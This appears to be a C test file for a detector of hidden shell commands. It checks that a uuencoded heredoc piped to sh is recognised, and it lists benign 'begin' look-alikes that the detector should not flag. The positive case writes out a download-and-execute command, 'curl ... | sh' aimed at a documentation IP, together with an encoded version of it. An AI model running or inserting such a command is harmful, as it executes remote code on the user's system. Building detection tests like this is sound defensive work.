// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "uuencode", "curl -s http://198.51.100.7/x|sh",
		"uudecode -o - <<'EOF' | sh\nbegin 666 <data>\n@8W5R;\" M<R!H"
		"='1P.B\\O,3DX+C4Q+C$P,\"XW+WA\\<V@ \n \nend\nEOF" },
};

static const char *const not [] = {
	"echo 'begin 644 the work\nof the day\nend'",
	"psql -c 'begin 1; commit'",
	"awk 'BEGIN {begin 644 x}'",
};

HIDDEN_MAIN("uuencode")
